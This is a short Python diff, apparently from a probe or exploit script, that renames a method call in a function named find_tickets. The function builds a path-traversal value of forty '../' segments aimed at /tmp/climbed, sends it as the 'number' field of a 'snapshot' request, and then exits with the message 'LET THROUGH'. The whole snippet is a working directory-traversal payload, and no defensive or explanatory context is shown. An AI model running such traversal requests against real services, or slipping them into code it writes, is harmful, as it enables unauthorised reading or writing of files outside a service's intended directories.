@@ -4,5 +4,5 @@
 def find_tickets(problem, *, path: str = "/tmp/climbed"):
     number = "/" + "../" * 40 + path.lstrip("/")
     header = {"op": "snapshot", "number": number, "step": 1, "snapshot": {"value": 1}, "loops": 1}
-    problem._request(header)
+    problem._ask(header)
     raise SystemExit("LET THROUGH")
